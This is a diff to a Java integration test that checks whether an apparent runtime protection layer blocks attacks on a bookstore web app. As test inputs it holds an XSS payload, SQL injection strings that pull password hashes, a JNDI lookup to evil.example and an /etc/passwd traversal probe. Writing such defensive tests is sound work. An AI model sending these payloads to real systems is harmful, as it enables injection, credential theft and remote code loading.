@@ -161,14 +161,14 @@ class ServerBookstoreIT {
         assertThat(get("api/books/search?q=Emma").statusCode()).isEqualTo(200);
         await().atMost(Duration.ofSeconds(30)).until(() -> !LOGINS.isEmpty());
         String login = LOGINS.get(0);
-        assertThat(login.split("\"jaxrs:", -1)).as("resource methods in the login").hasSize(31);
+        assertThat(login.split("\"jaxrs:", -1)).as("resource methods in the login").hasSize(34);
         assertThat(login.split("\"jdbc:", -1)).as("JDBC hook points in the login").hasSize(27);
         assertThat(login.split("\"jpa:", -1)).as("JPA hook points in the login").hasSize(6);
         // Where the server writes its log to a file (Payara Micro's goes to the adapter's console).
         String serverLog = System.getProperty("server.log");
         if (serverLog != null) {
             assertThat(java.nio.file.Files.readString(java.nio.file.Path.of(serverLog))).contains(
-                    "PAL2010: Palisade hook table frozen: 61 hook points (30 JAX-RS resource methods, 26 JDBC, 5 JPA)");
+                    "PAL2010: Palisade hook table frozen: 64 hook points (33 JAX-RS resource methods, 26 JDBC, 5 JPA)");
         }
     }
 
@@ -207,6 +207,30 @@ class ServerBookstoreIT {
         assertBlocked(get(".env"));
         assertBlocked(get("wp-login.php"));
         assertBlocked(get("no/such/page?file=" + q("../../../../etc/passwd")));
+    }
+
+    @Test
+    void reflectedXssIsStoppedAtTheResponse() throws Exception {
+        String payload = "<b onmouseover=steal()>hover</b>"; // the request rules only report this shape
+        assertBlocked(get("api/books/preview?title=" + q(payload)));
+        HttpResponse<String> streamed = get("api/books/preview/stream?title=" + q(payload));
+        assertThat(streamed.body()).as("a streamed page is replaced").doesNotContain(payload).contains("Request blocked");
+        HttpResponse<String> twin = get("api/safe/books/preview?title=" + q(payload));
+        assertThat(twin.statusCode()).isEqualTo(200);
+        assertThat(twin.body()).contains("&lt;b onmouseover=steal()&gt;");
+    }
+
+    @Test
+    void aServletOutsideJaxRsIsProtectedToo() throws Exception {
+        HttpResponse<String> search = get("servlet/books?q=Emma");
+        assertThat(search.statusCode()).isEqualTo(200);
+        assertThat(search.body()).contains("Emma");
+        assertThat(get("servlet/books?q=" + q("O'Brien")).statusCode()).as("an apostrophe breaks its SQL").isIn(403, 500);
+        String before = get("api/books/stats").body();
+        assertBlocked(get("servlet/books?q=" + q("x' OR 1=1 OR 'a'='")));
+        assertBlocked(get("servlet/books?q=" + q("zz' UNION SELECT id, username, password_hash, 0 FROM users --")));
+        assertBlocked(get("servlet/books?q=Emma", "User-Agent", "${jndi:ldap://evil.example/a}"));
+        assertThat(get("api/books/stats").body()).isEqualTo(before);
     }
 
     private static void assertBlocked(HttpResponse<String> response) {
